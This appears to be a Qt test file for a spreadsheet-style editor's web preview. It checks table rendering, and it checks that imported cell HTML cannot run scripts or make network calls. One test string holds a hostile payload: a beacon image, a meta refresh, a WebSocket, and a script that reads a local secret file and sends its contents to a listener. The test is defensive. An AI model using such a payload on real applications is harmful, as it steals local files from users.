#include <QtTest>

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QTcpServer>
#include <QToolBar>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineView>

#include "gui/cell_editor/frm_edit.h"
#include "gui/widgets/url_opener.h"
#include "gui/window/main_window.h"
#include "support/window_parts.h"
#include "gui/grid/grid_widget.h"

using namespace parts;

// The in-window preview, with a real web engine on a real display.
class tst_Preview : public QObject
{
    Q_OBJECT

private slots:
    void cleanup();
    void previewRendersTheTable();
    void strangersPageShowsButNeverRuns_data();
    void strangersPageShowsButNeverRuns();

private:
    QVariant evaluate(QWebEngineView *view, const QString &script);
};

void tst_Preview::cleanup()
{
    for (frmMain *w : frmMain::loadedWindows()) {
        if (output(*w)->PageFileFlag && !output(*w)->PageFilePath.isEmpty())
            QFile::remove(output(*w)->PageFilePath);
        delete w;
    }
}

QVariant tst_Preview::evaluate(QWebEngineView *view, const QString &script)
{
    QVariant result;
    bool done = false;
    // The page's own scripts are off; the test looks from a world of its own.
    view->page()->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant &v) {
        result = v;
        done = true;
    });
    if (!QTest::qWaitFor([&] { return done; }, 10000))
        return QVariant();
    return result;
}

void tst_Preview::previewRendersTheTable()
{
    auto *w = new frmMain;
    w->setFileName(newTableName());
    w->resize(900, 600);
    w->show();
    QVERIFY(QTest::qWaitForWindowExposed(w));
    part<QLineEdit>(*w, "txtWidth")->setText(QStringLiteral("3"));
    part<QLineEdit>(*w, "txtHeight")->setText(QStringLiteral("3"));
    w->Bar_ButtonClick(ToolbarButton::CellView);

    const QString names[] = {QStringLiteral("名前"), QStringLiteral("年齢"), QStringLiteral("備考")};
    for (int c = 1; c <= 3; ++c) {
        doc(*w).setCellField(c, 1, CellField::Header, -1);
        doc(*w).setCellText(c, 1, names[c - 1]);
    }
    doc(*w).setCellText(1, 2, QStringLiteral("結合した表～①"));
    for (auto [field, value] : {std::pair{CellField::ColSpanOn, 1}, {CellField::ColSpan, 2},
                                {CellField::RowSpanOn, 1}, {CellField::RowSpan, 2},
                                {CellField::BackColorNothing, 0},
                                {CellField::BackColor, 0x00FFFF}}) // yellow
        doc(*w).setCellField(1, 2, field, value);
    doc(*w).setCellText(3, 2, QStringLiteral("二十"));
    doc(*w).setCellText(3, 3, QStringLiteral("三十"));
    doc(*w).setCellField(3, 3, CellField::BackColorNothing, 0);
    doc(*w).setCellField(3, 3, CellField::BackColor, 0xFF8000); // 0x00BBGGRR: a blue

    QVERIFY(!w->findChild<QWebEngineView *>());
    auto *view = qobject_cast<QWebEngineView *>(output(*w)->webView());
    QVERIFY(view);
    QSignalSpy loaded(view, &QWebEngineView::loadFinished);
    w->Bar_ButtonClick(ToolbarButton::Preview);
    QVERIFY(part<QWidget>(*w, "Web")->isVisible());
    QVERIFY(!part<QWidget>(*w, "picAllSet")->isVisible());
    QVERIFY(output(*w)->PageFileFlag);
    QCOMPARE(view->url(), QUrl::fromLocalFile(output(*w)->PageFilePath));
    QVERIFY(loaded.wait(20000) || !loaded.isEmpty());
    QCOMPARE(loaded.first().first().toBool(), true);
    QVERIFY(view->isVisible());
    QCOMPARE(view->geometry(), part<QWidget>(*w, "Web")->rect());

    QCOMPARE(evaluate(view, QStringLiteral("document.characterSet")).toString().toLower(),
             QStringLiteral("shift_jis"));
    const QString script = QStringLiteral(
            "JSON.stringify(Array.from(document.querySelectorAll('tr')).map(tr =>"
            "  Array.from(tr.cells).map(td => ({tag: td.tagName, text: td.innerText,"
            "    cols: td.colSpan, rows: td.rowSpan, bg: getComputedStyle(td).backgroundColor,"
            "    width: td.getBoundingClientRect().width}))))");
    const QJsonArray rows =
            QJsonDocument::fromJson(evaluate(view, script).toString().toUtf8()).array();
    QCOMPARE(rows.size(), 3);
    QCOMPARE(rows.at(0).toArray().size(), 3);
    for (int c = 0; c < 3; ++c) {
        const QJsonObject th = rows.at(0).toArray().at(c).toObject();
        QCOMPARE(th.value("tag").toString(), QStringLiteral("TH"));
        QCOMPARE(th.value("text").toString(), names[c]);
    }
    const QJsonObject merged = rows.at(1).toArray().at(0).toObject();
    QCOMPARE(merged.value("text").toString(), QStringLiteral("結合した表～①"));
    QCOMPARE(merged.value("cols").toInt(), 2);
    QCOMPARE(merged.value("rows").toInt(), 2);
    QCOMPARE(merged.value("bg").toString(), QStringLiteral("rgb(255, 255, 0)"));
    QVERIFY(merged.value("width").toDouble() > 0);
    QCOMPARE(rows.at(1).toArray().size(), 2);
    QCOMPARE(rows.at(2).toArray().size(), 1);
    const QJsonObject blue = rows.at(2).toArray().at(0).toObject();
    QCOMPARE(blue.value("text").toString(), QStringLiteral("三十"));
    QCOMPARE(blue.value("bg").toString(), QStringLiteral("rgb(0, 128, 255)"));

    // The page stays on show after its file is deleted by the next command.
    const QString page = output(*w)->PageFilePath;
    w->Bar_ButtonClick(ToolbarButton::PreviewSeparator);
    QVERIFY(!QFile::exists(page));
    QVERIFY(view->isVisible());
    QCOMPARE(evaluate(view, QStringLiteral("document.querySelectorAll('td,th').length")).toInt(), 6);
}

void tst_Preview::strangersPageShowsButNeverRuns_data()
{
    QTest::addColumn<bool>("inEditor");
    QTest::newRow("window preview") << false;
    QTest::newRow("cell editor's preview") << true;
}

void tst_Preview::strangersPageShowsButNeverRuns()
{
    QFETCH(bool, inEditor);
    QTemporaryDir dir;
    QImage picture(7, 5, QImage::Format_RGB32);
    picture.fill(Qt::green);
    QVERIFY(picture.save(dir.filePath(QStringLiteral("pic.png"))));
    QFile secret(dir.filePath(QStringLiteral("secret.txt")));
    QVERIFY(secret.open(QIODevice::WriteOnly) && secret.write("hostname") > 0);
    secret.close();
    QTcpServer listener;
    QVERIFY(listener.listen(QHostAddress::LocalHost));
    const QString port = QString::number(listener.serverPort());
    QList<QUrl> opened;
    setUrlOpener([&opened](const QUrl &url) { opened << url; });

    // What an imported page can carry in a cell. In the window the table lies
    // beside its picture, so the picture's relative address finds it.
    const QString cell = QStringLiteral(
            "<IMG ID=\"pic\" SRC=\"%1\"><A ID=\"out\" HREF=\"http://127.0.0.1:%2/link\">link</A>"
            "<IMG SRC=\"http://127.0.0.1:%2/beacon.png\"><IFRAME SRC=\"%3\"></IFRAME>"
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://127.0.0.1:%2/refresh\">"
            "<SCRIPT>document.title = 'ran';"
            "new WebSocket('ws://127.0.0.1:%2/socket');"
            "fetch('%3').then(r => r.text()).then(t => { location.href = 'http://127.0.0.1:%2/?' + t; });"
            "</SCRIPT>")
            .arg(inEditor ? QUrl::fromLocalFile(dir.filePath(QStringLiteral("pic.png"))).toString()
                          : QStringLiteral("pic.png"),
                 port, QUrl::fromLocalFile(secret.fileName()).toString());

    std::unique_ptr<frmMain> window;
    std::unique_ptr<frmEdit> editor;
    QWebEngineView *view = nullptr;
    if (inEditor) {
        editor = std::make_unique<frmEdit>();
        editor->show();
        QVERIFY(QTest::qWaitForWindowExposed(editor.get()));
        editor->SettingText(cell);
        QTest::mouseClick(editor->Bar->widgetForAction(editor->BarButton[5]), Qt::LeftButton);
        view = qobject_cast<QWebEngineView *>(editor->webView());
    } else {
        window = std::make_unique<frmMain>();
        window->setFileName(dir.filePath(QStringLiteral("table.qvn")));
        window->resize(900, 600);
        window->show();
        QVERIFY(QTest::qWaitForWindowExposed(window.get()));
        doc(*window).setCellText(1, 1, cell);
        view = qobject_cast<QWebEngineView *>(output(*window)->webView());
        QVERIFY(view);
        window->Bar_ButtonClick(ToolbarButton::Preview);
    }
    QVERIFY(view);
    const QUrl page = QUrl::fromLocalFile(inEditor ? editor->PreviewFile : output(*window)->PageFilePath);

    // The picture beside the table shows; nothing reached the listener.
    QVERIFY(QTest::qWaitFor([&] {
        return evaluate(view, QStringLiteral("document.getElementById('pic').naturalWidth")).toInt() == 7;
    }, 20000));
    QTest::qWait(1500);
    QVERIFY(!listener.hasPendingConnections());
    QVERIFY(evaluate(view, QStringLiteral("document.title")).toString() != QLatin1String("ran"));
    QCOMPARE(view->url(), page);

    // A click on the link opens it in the user's browser, not in the preview.
    const QVariantList at = evaluate(view, QStringLiteral(
            "(() => { const r = document.getElementById('out').getBoundingClientRect();"
            " return [r.left + r.width / 2, r.top + r.height / 2]; })()")).toList();
    QCOMPARE(at.size(), 2);
    QWidget *surface = view->focusProxy() ? view->focusProxy() : view;
    QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(at.at(0).toInt(), at.at(1).toInt()));
    QVERIFY(QTest::qWaitFor([&] { return !opened.isEmpty(); }, 10000));
    QCOMPARE(opened.first(), QUrl(QStringLiteral("http://127.0.0.1:%1/link").arg(port)));
    QTest::qWait(500);
    QCOMPARE(view->url(), page);
    QVERIFY(!listener.hasPendingConnections());
    setUrlOpener({});
    if (window) {
        output(*window)->PageFileFlag = true;
        output(*window)->deletePageFileIfFlagged();
    }
}

QTEST_MAIN(tst_Preview)
#include "tst_preview.moc"
